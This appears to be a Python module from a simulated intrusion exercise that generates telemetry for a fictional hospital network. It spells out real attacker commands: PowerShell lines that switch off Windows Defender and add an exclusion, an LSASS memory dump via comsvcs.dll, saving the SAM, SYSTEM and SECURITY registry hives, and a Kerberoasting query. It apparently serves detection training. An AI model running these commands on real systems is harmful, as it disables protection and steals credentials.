"""Steps 5 and 6: protection is switched off, and passwords are taken."""

from __future__ import annotations

from carecordon.exercise.intrusion.steps import BLIND, RETURN, THEFT, Intrusion, there, typed
from carecordon.exercise.stage import Script
from carecordon.exercise.telemetry import directory, processes, traces, upkeep
from carecordon.exercise.telemetry.programs import POWERSHELL, SYSTEM32, made_of
from carecordon.exercise.telemetry.sensor import Process, Sensor

SERVICES = (("svc-sql", "MSSQLSvc/wph-epr01"), ("svc-backup", "backup/wph-bak01"), ("svc-pacs", "HTTP/wph-pacs01"),
            ("svc-lims", "HTTP/wph-lims01"))  # fmt: skip
DEFENDER_KEY = "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\"
TRACE = "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(00000203F2A11C40)"


def theft(plan: Intrusion) -> Script:
    """The task starts the program with all rights; it blinds the device and reads what it can."""
    on, loader = plan.first, there(plan.loader)
    again = on.marked(RETURN.mark("T1053.005"))
    upkeep.start_task(again, f"\\{plan.kit.task}", loader.image)
    plan.elevated = processes.start(
        again, on.state.roots["svchost:netsvcs"], loader.image, loader.image, session=loader.session, integrity="High",
        directory=SYSTEM32, facts=made_of(f"loader:{plan.kit}"),
    )  # fmt: skip
    yield 30 + plan.rng.random() * 30
    yield from _blind(plan)
    yield 40 + plan.rng.random() * 60
    yield from _memory(plan)
    yield from _hives(plan)
    yield from _tickets(plan)


def _blind(plan: Intrusion) -> Script:
    view, elevated = plan.first.marked(BLIND.mark()), there(plan.elevated)
    engine = view.state.roots["defender"]
    for command in (
        "Set-MpPreference -DisableRealtimeMonitoring $true",
        "Add-MpPreference -ExclusionPath C:\\ProgramData",
    ):
        process = processes.start(view, elevated, POWERSHELL, f"powershell.exe -NoProfile -Command {command}")
        yield 0.8
        upkeep.run_script(view, process, command)
        yield 0.6
        if command.startswith("Set"):
            upkeep.disarm_defender(view)
            key = f"{DEFENDER_KEY}Real-Time Protection\\DisableRealtimeMonitoring"
            traces.set_value(view, engine, key, "DWORD (0x00000001)")
            upkeep.change_defender(view, f"{key} = 0x1")
        else:
            traces.set_value(view, engine, f"{DEFENDER_KEY}Exclusions\\Paths\\C:\\ProgramData", "DWORD (0x00000000)")
            upkeep.change_defender(view, f"{DEFENDER_KEY}Exclusions\\Paths\\C:\\ProgramData = 0x0")
        processes.end(view, process)
        yield 10.0


def _memory(plan: Intrusion) -> Script:
    view, elevated = plan.first.marked(THEFT.mark("T1003.001")), there(plan.elevated)
    lsass = view.state.roots["lsass"]
    processes.open_process(view, elevated, lsass, "0x1010", TRACE)
    yield 20.0
    path = "C:\\ProgramData\\perf.dat"
    line = f"rundll32.exe {SYSTEM32}comsvcs.dll, MiniDump {lsass.pid} {path} full"
    process = processes.start(view, elevated, SYSTEM32 + "rundll32.exe", line)
    processes.load(view, process, SYSTEM32 + "comsvcs.dll")
    processes.load(view, process, SYSTEM32 + "dbgcore.dll")
    processes.open_process(view, process, lsass, "0x1fffff")
    yield 1.5
    traces.create(view, process, path)
    processes.end(view, process)
    yield 30.0


def _hives(plan: Intrusion) -> Script:
    view, elevated = plan.first.marked(THEFT.mark("T1003.002")), there(plan.elevated)
    for hive in ("sam", "system", "security"):
        path = f"C:\\ProgramData\\{hive[:3]}.dat"
        process = processes.start(view, elevated, SYSTEM32 + "reg.exe", f"reg save hklm\\{hive} {path} /y")
        yield 0.5
        traces.create(view, process, path)
        processes.end(view, process)
        yield 5 + plan.rng.random() * 10


def _tickets(plan: Intrusion) -> Script:
    """Ask for tickets in the old cipher: their keys are passwords of service accounts, to be guessed at leisure."""
    view = plan.first.marked(THEFT.mark("T1558.003"))
    yield from typed(view, there(plan.elevated), "setspn.exe", "setspn -T wph.example.org -Q */*", plan.rng)
    dc = plan.hospital.controller.marked(view.mark) if view.mark else plan.hospital.controller
    for account, _ in SERVICES:
        yield 0.4
        _ask(view, there(plan.loader), dc, plan.user.account, account)


def _ask(view: Sensor, loader: Process, dc: Sensor, user: str, account: str) -> None:
    traces.connect(view, loader, dc.device.address, 88, host=dc.name)
    directory.grant_service(dc, user, account, view.device.address, directory.RC4)
